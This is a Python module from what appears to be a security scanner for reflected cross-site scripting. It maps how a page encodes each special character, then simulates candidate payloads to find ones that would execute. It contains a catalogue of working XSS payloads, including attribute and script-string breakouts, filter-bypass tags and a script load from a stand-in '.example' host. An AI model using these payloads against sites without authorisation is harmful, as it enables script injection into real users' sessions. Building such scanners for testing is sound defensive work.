"""Where does a value come back, what happened to its characters on the way, and what would break out there?

The contexts are not guessed from the text around a marker. One answer shows how the application treats every
character that matters (kept, encoded, escaped, dropped), separately for each place the value comes back; each
candidate payload is then put into that page *here*, treated the same way, and the page is parsed. Only payloads
that would become executable are ever sent. That covers attribute values, raw text elements, script strings,
handlers and their combinations with encoders at no request, because the parser itself is the oracle.
"""

from collections.abc import Iterator, Mapping

from msgspec import Struct

from cyberai.checkkit.echoes import echoes
from cyberai.checkkit.markup import executable

CHARACTERS = "\"'`\\/()=;:{}$&- \n>*,<"
"""The characters whose fate is asked for; `<` last, since a tag filter may swallow what follows it."""

_MAX_PLACES = 40


class Place(Struct, frozen=True):
    """One place where a probe came back: its bytes from `start` to `end`, what became of each character (the
    identity where it is not listed), and whether letters came back in upper case."""

    start: int
    end: int
    treatment: Mapping[str, bytes]
    upper: bool = False

    def treated(self, payload: str) -> bytes:
        """The payload as this place would show it."""
        shown = b"".join(self.treatment.get(char, char.encode("utf-8", "replace")) for char in payload)
        return shown.upper() if self.upper else shown


class Candidate(Struct, frozen=True):
    """A payload pattern (see `filled`) and the manner in which it makes a browser call us."""

    manner: str
    pattern: str


def occurrences(body: bytes, token: str) -> list[int]:
    """Offsets of the token in the body, in lower or upper case, at most 40."""
    found: list[int] = []
    raw, text = token.encode(), body.lower()
    at = text.find(raw)
    while at >= 0 and len(found) < _MAX_PLACES:
        if body[at : at + len(raw)] in (raw, raw.upper()):
            found.append(at)
        at = text.find(raw, at + len(raw))
    return found


def character_probe(token: str) -> str:
    """A value that shows the fate of every character: token, then marks `z0`, `z1`, ... around them, `zz`."""
    return (
        token
        + "".join(f"z{_mark(i)}{char}" for i, char in enumerate(CHARACTERS))
        + f"z{_mark(len(CHARACTERS))}zz"
    )


def places(body: bytes, token: str) -> tuple[Place, ...]:
    """Where a `character_probe` of this token came back, and how."""
    return tuple(_place(body, at, len(token)) for at in occurrences(body, token))


def plain_places(body: bytes, token: str) -> tuple[Place, ...]:
    """Where a bare token came back; nothing is known about other characters, so they are taken as kept."""
    raw = token.encode()
    return tuple(
        Place(at, at + len(raw), {}, upper=body[at : at + len(raw)] != raw) for at in occurrences(body, token)
    )


def replacing(body: bytes, where: tuple[Place, ...], value: str) -> tuple[Place, ...]:
    """The same places taken together with the original value in front of them: what a payload would get that
    replaces the value instead of following it."""
    return tuple(
        Place(_start_of(body, place.start, value), place.end, place.treatment, place.upper) for place in where
    )


def _start_of(body: bytes, start: int, value: str) -> int:
    for form in echoes(value):
        if body[:start].endswith(form):
            return start - len(form)
    return start


def simulate(body: bytes, where: tuple[Place, ...], payload: str) -> bytes:
    """The page as it would be with this payload in place of the probe."""
    parts: list[bytes] = []
    last = 0
    for place in where:
        if place.start < last:
            continue
        parts += (body[last : place.start], place.treated(payload))
        last = place.end
    return b"".join((*parts, body[last:]))


def promising(body: bytes, where: tuple[Place, ...], name: str) -> Iterator[Candidate]:
    """Candidates that would run in this page, tried there with `name`, the plainest first."""
    usable = _usable(where)
    for candidate in CANDIDATES:
        payload = filled(candidate.pattern, name)
        if set(payload) & _SPECIAL <= usable and executable(simulate(body, where, payload), name):
            yield candidate


def filled(pattern: str, name: str) -> str:
    """The payload of a pattern: `@` is a call of the function `name`, `@CODED` the call in character
    references, `@HOST` a host of that name under a reserved domain (RFC 2606)."""
    coded = "".join(f"&#{ord(char)};" for char in f"{name}()")
    return pattern.replace("@CODED", coded).replace("@HOST", f"{name}.example").replace("@", f"{name}()")


_SPECIAL = frozenset(CHARACTERS)

_IN_PLACE: tuple[tuple[str, str], ...] = (
    ("script expression", "-@"),
    ("script expression", ";@"),
    ("script expression", "@"),
    ("script string", "'-@-'"),
    ("script string", '"-@-"'),
    ("script template", "${@}"),
    ("script template", "`-@-`"),
    ("script statement", "';@;'"),
    ("script statement", '";@;"'),
    ("script line", "\n@//"),
    ("script line", "\n@\n"),
    ("script comment", "*/@/*"),
    ("script escape", "\\'-@//"),
    ("script escape", '\\"-@//'),
    ("script escape", "\\')-@//"),
    ("script escape", "\\');@//"),
    ("script escape", '\\");@//'),
    ("script escape", "\\'});@//"),
    ("script escape", '\\"});@//'),
    ("script call", "');@;('"),
    ("script call", '");@;("'),
    ("script object", "'};@;{'"),
    ("script object", '"};@;{"'),
    ("script regular expression", "/-@-/"),
    ("script source", "//@HOST/"),
    ("script source", "https://@HOST/"),
    ("script URL", "javascript:@"),
    ("script URL", "JavaScript:@//http://"),
    ("attribute", '"onfocus="@'),
    ("attribute", "'onfocus='@"),
    ("attribute", '" autofocus onfocus="@'),
    ("attribute", "' autofocus onfocus='@"),
    ("attribute", '" autofocus onfocus=@ x="'),
    ("attribute", "' autofocus onfocus=@ x='"),
    ("attribute", " autofocus onfocus=@ x="),
    ("attribute", "x autofocus onfocus=@ "),
    ("attribute", "/onfocus=@/"),
)

_TAGS: tuple[tuple[str, str], ...] = (
    ("element with handler", "<svg/onload=@>"),
    ("script element", "<script>@</script>"),
    ("element with handler and spaces", "<img src=x onerror=@>"),
    ("link", "<a href=javascript:@>x</a>"),
    ("script element, mixed case", "<ScRiPt>@</sCrIpT>"),
    ("script element, nested", "<scr<script>ipt>@</scr</script>ipt>"),
    ("element with handler, unclosed", "<svg/onload=@ "),
    ("frame", "<iframe src=javascript:@>"),
    ("script element from a host", "<script src=//@HOST></script>"),
    ("element with coded handler", "<svg/onload=@CODED>"),
)

_WAYS_OUT = (
    "",
    '">',
    "'>",
    ">",
    "-->",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</select>",
    "</xmp>",
    "</iframe>",
    "</noembed>",
    "</noframes>",
    "</template>",
    '"></script>',
    "'></script>",
    '"></noscript>',
    "--></noscript>",
    "]]>",
)


CANDIDATES = tuple(Candidate(manner, pattern) for manner, pattern in _IN_PLACE) + tuple(
    Candidate(manner, before + pattern) for manner, pattern in _TAGS for before in _WAYS_OUT
)
"""Every payload of the catalogue."""


def _mark(index: int) -> str:
    return "abcdefghijklmnopqrstuvwxy"[index]


def _place(body: bytes, start: int, length: int) -> Place:
    treatment: dict[str, bytes] = {}
    window = body[start : start + length + 40 * len(CHARACTERS)]
    upper = window[:length] != window[:length].lower()
    window = window.lower() if upper else window
    at = length
    for index, char in enumerate(CHARACTERS):
        opening, closing = f"z{_mark(index)}".encode(), f"z{_mark(index + 1)}".encode()
        if not window.startswith(opening, at):
            break
        end = window.find(closing, at + 2)
        if end < 0:
            break
        treatment[char] = window[at + 2 : end]
        at = end
    last = f"z{_mark(len(CHARACTERS))}zz".encode()
    complete = window.startswith(last, at)
    for char in CHARACTERS:
        # Behind a cut everything is lost; a character whose mark did not come back was cut with it.
        treatment.setdefault(char, b"")
    return Place(start, start + at + (len(last) if complete else 0), treatment, upper)


def _usable(where: tuple[Place, ...]) -> set[str]:
    # A character counts as usable when any place shows it in some form: also an entity is one, inside an attribute.
    return {char for char in CHARACTERS if any(place.treatment.get(char, b"x") for place in where)}
